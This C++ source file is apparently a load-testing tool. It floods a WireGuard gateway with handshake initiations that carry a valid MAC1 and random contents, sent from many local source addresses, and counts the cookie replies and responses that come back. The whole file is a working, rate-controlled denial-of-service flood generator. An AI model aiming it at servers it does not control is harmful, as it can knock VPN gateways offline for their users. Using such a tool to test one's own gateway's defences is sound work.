// A flood of WireGuard handshake initiations whose MAC1 is right and whose inside is noise, from many source addresses:
// what an attacker who knows the gateway's public key can send without owning a peer's key. Every source address must
// be local (an "any IP" route), so that the replies come back and can be counted by type.
//
//   flood TARGET PORT PUBLIC_KEY_BASE64 FIRST_SOURCE SOURCES PACKETS_PER_SECOND SECONDS
//   prints {"sent", "seconds", "per_second", "sources", "cookie_replies", "responses", "other_replies"}
#include <arpa/inet.h>
#include <openssl/core_names.h>
#include <openssl/evp.h>
#include <openssl/rand.h>
#include <sys/resource.h>
#include <sys/socket.h>

#include <algorithm>
#include <array>
#include <cinttypes>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <vector>

namespace {

constexpr std::size_t initiation_bytes = 148, mac1_offset = 116, mac_bytes = 16,
                      key_bytes = 32;  // WireGuard paper, 5.4.2
constexpr std::uint64_t ns_per_s = 1'000'000'000;
constexpr std::uint64_t max_lateness_ns = 30'000'000;
constexpr int max_burst_packets = 64;
enum MessageType : unsigned char { initiation = 1, response = 2, cookie_reply = 3 };

[[noreturn]] void fail(const char* what) {
  std::perror(what);
  std::exit(2);
}

std::uint64_t now_ns() {
  timespec t{};
  clock_gettime(CLOCK_MONOTONIC, &t);
  return static_cast<std::uint64_t>(t.tv_sec) * ns_per_s + static_cast<std::uint64_t>(t.tv_nsec);
}

// MAC1's key: HASH(LABEL-MAC1 || responder's static public key). WireGuard paper, 5.4.4.
std::array<unsigned char, key_bytes> mac1_key(const char* public_key_base64) {
  std::array<unsigned char, 8 + 48> input{'m', 'a', 'c', '1', '-', '-', '-', '-'};
  if (std::strlen(public_key_base64) != 44 ||
      EVP_DecodeBlock(input.data() + 8, reinterpret_cast<const unsigned char*>(public_key_base64), 44) != 33) {
    std::fputs("flood: the public key is not 44 characters of base64\n", stderr);
    std::exit(2);
  }
  std::array<unsigned char, key_bytes> key{};
  if (EVP_Digest(input.data(), 8 + key_bytes, key.data(), nullptr, EVP_blake2s256(), nullptr) != 1) fail("BLAKE2s");
  return key;
}

class Mac1 {
 public:
  explicit Mac1(const char* public_key_base64) : key_(mac1_key(public_key_base64)) {
    EVP_MAC* mac = EVP_MAC_fetch(nullptr, "BLAKE2SMAC", nullptr);
    context_ = EVP_MAC_CTX_new(mac);
    EVP_MAC_free(mac);
  }
  void sign(std::array<unsigned char, initiation_bytes>& message) {
    std::size_t size = mac_bytes;
    const std::array<OSSL_PARAM, 2> parameters{OSSL_PARAM_construct_size_t(OSSL_MAC_PARAM_SIZE, &size),
                                               OSSL_PARAM_construct_end()};
    std::size_t written = 0;
    if (EVP_MAC_init(context_, key_.data(), key_.size(), parameters.data()) != 1 ||
        EVP_MAC_update(context_, message.data(), mac1_offset) != 1 ||
        EVP_MAC_final(context_, message.data() + mac1_offset, &written, mac_bytes) != 1 || written != mac_bytes) {
      fail("BLAKE2s MAC");
    }
  }

 private:
  std::array<unsigned char, key_bytes> key_;
  EVP_MAC_CTX* context_ = nullptr;
};

std::vector<int> open_sources(in_addr first, std::size_t count, const sockaddr_in& target) {
  const rlimit files{count + 64, count + 64};
  if (setrlimit(RLIMIT_NOFILE, &files) != 0) fail("RLIMIT_NOFILE");
  std::vector<int> sources;
  for (std::size_t i = 0; i < count; ++i) {
    const int fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(ntohl(first.s_addr) + static_cast<std::uint32_t>(i));
    if (fd < 0 || bind(fd, reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0) fail("bind a source");
    if (connect(fd, reinterpret_cast<const sockaddr*>(&target), sizeof target) != 0) fail("connect");
    sources.push_back(fd);
  }
  return sources;
}

struct Replies {
  std::uint64_t cookies = 0, responses = 0, other = 0;
  void take(int fd) {
    std::array<unsigned char, 256> reply{};
    while (recv(fd, reply.data(), reply.size(), MSG_DONTWAIT) > 0) {
      if (reply[0] == cookie_reply)
        ++cookies;
      else if (reply[0] == response)
        ++responses;
      else
        ++other;
    }
  }
};

}  // namespace

int main(int argc, char** argv) {
  if (argc != 8) {
    std::fputs("usage: flood TARGET PORT PUBLIC_KEY_BASE64 FIRST_SOURCE SOURCES PACKETS_PER_SECOND SECONDS\n", stderr);
    return 2;
  }
  sockaddr_in target{};
  in_addr first_source{};
  target.sin_family = AF_INET;
  target.sin_port = htons(static_cast<std::uint16_t>(std::atoi(argv[2])));
  if (inet_pton(AF_INET, argv[1], &target.sin_addr) != 1 || inet_pton(AF_INET, argv[4], &first_source) != 1) {
    std::fputs("flood: not an IPv4 address\n", stderr);
    return 2;
  }
  const auto count = static_cast<std::size_t>(std::max(1, std::atoi(argv[5])));
  const auto per_second = static_cast<std::uint64_t>(std::max(1, std::atoi(argv[6])));
  const auto seconds = static_cast<std::uint64_t>(std::max(1, std::atoi(argv[7])));

  Mac1 mac1(argv[3]);
  const std::vector<int> sources = open_sources(first_source, count, target);
  Replies replies;
  std::uint64_t sent = 0;
  const std::uint64_t start_ns = now_ns(), end_ns = start_ns + seconds * ns_per_s;
  const std::uint64_t total = per_second * seconds;
  std::uint64_t pardoned_ns = 0;
  std::array<unsigned char, initiation_bytes> message{};
  while (sent < total && now_ns() < end_ns) {
    // What we were kept from sending for longer than that is not made up for: a flood is steady, not a burst.
    const std::uint64_t now = now_ns();
    if (now - start_ns > sent * ns_per_s / per_second + max_lateness_ns + pardoned_ns) {
      pardoned_ns = now - start_ns - sent * ns_per_s / per_second - max_lateness_ns;
    }
    const std::uint64_t due = std::min(total, (now - start_ns - pardoned_ns) * per_second / ns_per_s + 1);
    for (int burst = 0; burst < max_burst_packets && sent < due; ++burst) {
      RAND_bytes(message.data() + 4,
                 static_cast<int>(mac1_offset - 4));  // sender index, ephemeral, static, timestamp: noise
      message[0] = initiation;
      mac1.sign(message);
      const int fd = sources[sent % count];
      replies.take(fd);
      if (send(fd, message.data(), message.size(), 0) >= 0) ++sent;
    }
    const timespec pause{0, 200'000};
    if (sent >= due) nanosleep(&pause, nullptr);
  }
  const double took_s = static_cast<double>(now_ns() - start_ns) / 1e9;
  const timespec last_replies{0, 200'000'000};
  nanosleep(&last_replies, nullptr);
  for (const int fd : sources) replies.take(fd);
  std::printf(
      "{\"sent\": %" PRIu64 ", \"seconds\": %.2f, \"per_second\": %.0f, \"sources\": %zu, \"cookie_replies\": %" PRIu64
      ", \"responses\": %" PRIu64 ", \"other_replies\": %" PRIu64 "}\n",
      sent, took_s, static_cast<double>(sent) / took_s, count, replies.cookies, replies.responses, replies.other);
  return 0;
}
